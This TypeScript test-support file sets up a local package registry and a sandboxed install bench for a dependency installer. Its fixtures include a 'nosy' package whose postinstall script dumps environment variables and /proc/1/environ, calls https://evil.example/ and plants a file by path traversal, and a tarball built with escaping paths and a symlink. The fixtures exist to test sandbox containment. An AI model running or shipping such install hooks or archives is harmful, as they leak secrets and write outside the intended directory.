import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { createDependencies } from '../../src/dependencies/create-dependencies.ts';
import { createLayerStore } from '../../src/dependencies/layers/layer-store.ts';
import type { Installer } from '../../src/domain/install.ts';
import { profileSchema } from '../../src/domain/profile.ts';
import { createEgressProxy } from '../../src/gateway/egress/create-egress-proxy.ts';
import type { EgressLimits } from '../../src/gateway/egress/egress-state.ts';
import type { Dependencies, InstallRequest, Provided } from '../../src/ports/dependencies.ts';
import { createBubblewrapSandbox } from '../../src/sandbox/create-bubblewrap-sandbox.ts';
import { requireBubblewrap, silentLog } from '../sandbox/support/host.ts';
import { type PackageRegistry, startPackageRegistry } from '../support/package-registry.ts';

const sandbox = createBubblewrapSandbox({ log: silentLog });

type Packages = Parameters<typeof startPackageRegistry>[0];

/** What may differ from a server whose mirrors of npm and PyPI are the test's registry. */
interface Changes {
  readonly mirrors?: boolean;
  readonly hosts?: readonly string[];
  readonly environment?: Readonly<Record<string, string>>;
  readonly readOnly?: readonly string[];
  readonly limits?: Partial<EgressLimits>;
  readonly readFree?: (path: string) => Promise<number>;
}

/** A registry, and homes in which what it has is installed. */
export interface InstallBench {
  readonly home: string;
  readonly registry: PackageRegistry;
  open(): Promise<void>;
  /** Begins with an empty home. */
  renew(): Promise<void>;
  close(): Promise<void>;
  /** As after a start of the server. */
  create(changes?: Changes): Promise<Dependencies>;
  /** A manifest and a lock file for these packages. */
  filesOf(...names: string[]): InstallRequest['files'];
  /** `left-pad`, by npm. */
  request(changes?: Partial<InstallRequest>): InstallRequest;
}

export function createInstallBench(packages: Packages = PACKAGES): InstallBench {
  let opened: PackageRegistry | null = null;
  let home = '';
  const proxies: { close(): Promise<void> }[] = [];

  async function clear(): Promise<void> {
    await Promise.all(proxies.splice(0).map((proxy) => proxy.close()));
    rmSync(home, { recursive: true, force: true });
  }

  function theRegistry(): PackageRegistry {
    if (opened === null) {
      throw new Error('the bench is not open');
    }
    return opened;
  }

  return {
    get home() {
      return home;
    },
    get registry() {
      return theRegistry();
    },
    async open() {
      await requireBubblewrap();
      opened = await startPackageRegistry(packages);
    },
    async renew() {
      await clear();
      home = mkdtempSync(join(tmpdir(), 'baton-dependencies-'));
      theRegistry().asked.splice(0);
    },
    async close() {
      await clear();
      await theRegistry().close();
    },
    async create({ mirrors = true, hosts = [], readOnly = [], limits = {}, ...rest } = {}) {
      const { url } = theRegistry();
      const own = [
        ['npm', url],
        ['pip', `${url}/simple`],
      ] as const;
      const policy = { mirrors: new Map(mirrors ? own : []), hosts };
      const egress = await createEgressProxy({ home, limits, policy });
      proxies.push(egress);
      return createDependencies({
        store: await createLayerStore({ home, maxBytes: 1024 ** 3, log: silentLog, now: Date.now }),
        egress,
        sandbox,
        tools: { readOnly, path: [] },
        timeoutMs: 120_000,
        elapsedMs: () => performance.now(),
        ...rest,
      });
    },
    filesOf: (...names) => toFiles(theRegistry().lock(...names)),
    request: (changes = {}) => ({
      repository: 901,
      installer: installerOf('node', 'package-lock.json'),
      files: toFiles(theRegistry().lock('left-pad')),
      scripts: false,
      hosts: [],
      ...changes,
    }),
  };
}

/** The installer of a shipped profile, by its lock file. */
export function installerOf(profile: string, lock: string): Installer {
  const { install = [] } = profileSchema.parse(parse(readFileSync(`profiles/${profile}.yaml`, 'utf8')));
  const found = install.find(({ locks }) => locks.includes(lock));
  if (found === undefined || 'remedy' in found) {
    throw new Error(`${profile} does not install from ${lock}`);
  }
  return found;
}

export function toFiles(files: Readonly<Record<string, string>>): InstallRequest['files'] {
  return new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)]));
}

/** What a command prints that sees what was installed. */
export async function runWith(home: string, provided: Provided, script: string): Promise<string> {
  if (provided.kind === 'failed') {
    throw new Error(`${provided.summary}\n${provided.output}`);
  }
  const tree = mkdtempSync(join(home, 'tree-'));
  const result = await sandbox.run(
    {
      argv: ['sh', '-c', script],
      tree: { path: tree, access: 'write' },
      mounts: provided.mounts,
      path: [`${tree}/node_modules/.bin`, '~/.venv/bin'],
      timeoutMs: 20_000,
    },
    new AbortController().signal,
  );
  return result.kind === 'unavailable' ? result.reason : result.output;
}

const PACKAGES: Packages = [
  {
    name: 'left-pad',
    version: '1.0.0',
    files: {
      'index.js': 'module.exports = (text) => ` ${text}`;',
      'cli.js': '#!/usr/bin/env node\nconsole.log("padded");',
    },
    manifest: { bin: { pad: 'cli.js' } },
  },
  {
    name: 'nosy',
    version: '1.0.0',
    files: {
      'nosy.sh':
        "env; ls -A $HOME; cat /proc/1/environ | tr '\\0' '\\n'; (curl -sS -m 5 https://evil.example/ || true); ls -A .. ; touch ../../../planted",
    },
    manifest: { scripts: { postinstall: 'sh nosy.sh > seen.txt 2>&1' } },
  },
  { name: 'escaping', version: '1.0.0', tarball: anEscapingTarball() },
];

/** An archive with a way up, an absolute path and a link out that is written through. */
function anEscapingTarball(): Buffer {
  const script = `
import io, sys, tarfile
archive = tarfile.open(fileobj=sys.stdout.buffer, mode='w|gz')
def add(name, text=b'x', link=None):
    entry = tarfile.TarInfo(name)
    if link:
        entry.type, entry.linkname = tarfile.SYMTYPE, link
        archive.addfile(entry)
    else:
        entry.size = len(text)
        archive.addfile(entry, io.BytesIO(text))
add('package/package.json', b'{"name":"escaping","version":"1.0.0"}')
add('package/../../../escaped-up')
add('../../../../escaped-more')
add('/tmp/escaped-absolute')
add('package/out', link='../../..')
add('package/out/escaped-through')
archive.close()
`;
  return execFileSync('/usr/bin/python3', ['-c', script]);
}
